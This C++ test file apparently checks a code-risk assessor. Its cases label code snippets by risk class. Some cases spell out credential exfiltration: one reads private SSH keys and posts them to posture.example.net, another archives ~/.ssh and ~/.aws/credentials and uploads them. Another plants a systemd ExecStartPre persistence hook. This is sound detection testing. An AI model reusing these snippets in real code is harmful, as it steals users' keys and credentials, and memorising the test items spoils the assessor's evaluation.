// The classes the seventy-fifth and seventy-seventh rounds modelled (issue
// 14), found by programs written from the rubric alone by writers who never
// saw the assessor (tests/corpus/prog79_MANIFEST.tsv, prog81_MANIFEST.tsv).
// Their asides scored 27/29 and 40/41 before any change for them; the
// classes below came from their tune parts (66/71 and 57/59 before).
// Strings here are never executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {

// A file of ~/.ssh named at run time (the private key beside each .pub, a
// listing) may be a key; ssh's client configuration is not.
TEST(SeventyFifthRoundClasses, AFileOfTheSshDirectoryNamedAtRunTimeMayBeAKey) {
  const Case cases[] = {
      {"each public key's private twin, base64 in a report posted away", B,
       "import base64, json, http.client\n"
       "from pathlib import Path\n"
       "keys = []\n"
       "for pub in (Path.home() / '.ssh').glob('*.pub'):\n"
       "    keys.append(base64.b64encode(pub.with_suffix('').read_bytes()).decode())\n"
       "c = http.client.HTTPSConnection('posture.example.net', 443, timeout=15)\n"
       "c.request('POST', '/v1/ssh', body=json.dumps({'keys': keys}))\n",
       "EXFILTRATION"},
      {"the public keys' fingerprints posted the same way", L,
       "import hashlib, json, http.client\n"
       "from pathlib import Path\n"
       "prints = [hashlib.sha256(p.read_bytes()).hexdigest() for p in (Path.home() / '.ssh').glob('*.pub')]\n"
       "c = http.client.HTTPSConnection('posture.example.net', 443, timeout=15)\n"
       "c.request('POST', '/v1/ssh', body=json.dumps({'fingerprints': prints}))\n",
       nullptr},
      {"ssh's client configuration's host names posted to an inventory", L,
       "import json, requests\n"
       "from pathlib import Path\n"
       "hosts = [l.split()[1] for l in (Path.home() / '.ssh/config').read_text().splitlines()\n"
       "         if l.startswith('Host ')]\n"
       "requests.post('https://inventory.example.net/v1/hosts', json=hosts, timeout=10)\n",
       nullptr},
  };
  for (const auto& c : cases) check(c);
}

// A value keeps up to sixteen alternatives: a backup list of eight
// application files and then the host's credentials is still the
// credentials.
TEST(SeventyFifthRoundClasses, CredentialsAfterEightOrdinaryFilesAreStillCredentials) {
  const Case cases[] = {
      {"eight settings files, then ~/.ssh and ~/.aws/credentials, archived and posted", B,
       "import io, tarfile, requests\n"
       "from pathlib import Path\n"
       "base = Path.home() / '.octoprint'\n"
       "items = [base / n for n in ('config.yaml', 'users.yaml', 'printerProfiles', 'slicingProfiles',\n"
       "                            'data/a', 'data/b', 'data/c', 'data/d')]\n"
       "items += [Path.home() / '.ssh', Path.home() / '.aws/credentials']\n"
       "buf = io.BytesIO()\n"
       "with tarfile.open(fileobj=buf, mode='w:gz') as tar:\n"
       "    for p in items:\n"
       "        tar.add(str(p))\n"
       "requests.post('https://vault.example.net/upload', data=buf.getvalue(), timeout=60)\n",
       "EXFILTRATION"},
  };
  for (const auto& c : cases) check(c);
}

// A unit's drop-in changes its settings; it makes something run only with
// an Exec line (or text that is not known).
TEST(SeventyFifthRoundClasses, AUnitDropInPersistsOnlyWhatItRuns) {
  const Case cases[] = {
      {"limits for a service in a drop-in", H,
       "#!/bin/bash\n"
       "sudo mkdir -p /etc/systemd/system/nginx.service.d\n"
       "printf '[Service]\\nLimitNOFILE=65536\\n' | sudo tee /etc/systemd/system/nginx.service.d/limits.conf\n",
       "SYSTEM-MODIFICATION", Language::shell},
      {"a command run before the service, in a drop-in", B,
       "#!/bin/bash\n"
       "printf '[Service]\\nExecStartPre=/opt/agent/run.sh\\n' | sudo tee /etc/systemd/system/nginx.service.d/pre.conf\n",
       "PERSISTENCE", Language::shell},
      {"limits written to a temporary file and installed as a drop-in", H,
       "#!/bin/bash\n"
       "tmp=$(mktemp)\n"
       "printf '[Service]\\nLimitNOFILE=65536\\n' > \"$tmp\"\n"
       "sudo install -D -m 0644 \"$tmp\" /etc/systemd/system/postfix@-.service.d/limits.conf\n",
       "SYSTEM-MODIFICATION", Language::shell},
      {"a drop-in copied from a file this code did not write", B,
       "#!/bin/bash\n"
       "sudo cp ./override.conf /etc/systemd/system/nginx.service.d/override.conf\n",
       "PERSISTENCE", Language::shell},
  };
  for (const auto& c : cases) check(c);
}

// `visudo -c -f FILE` checks a file of the code's own: no privilege; plain
// `visudo -c` reads /etc/sudoers (root's) and `visudo` edits them.
TEST(SeventyFifthRoundClasses, CheckingAStagedSudoersFileIsNotAdministration) {
  const Case cases[] = {
      {"a staged fragment checked with visudo -c -q -f", M,
       "import subprocess\n"
       "subprocess.run(['visudo', '-c', '-q', '-f', 'staging/40-oncall'], check=True)\n",
       "RUNS-PROCESS"},
      {"the live sudoers checked", H,
       "#!/bin/bash\nvisudo -c\n", "SYSTEM-ADMINISTRATION", Language::shell},
      {"a fragment under /etc checked", H,
       "#!/bin/bash\nvisudo -c -f /etc/sudoers.d/ops\n", "SYSTEM-ADMINISTRATION", Language::shell},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
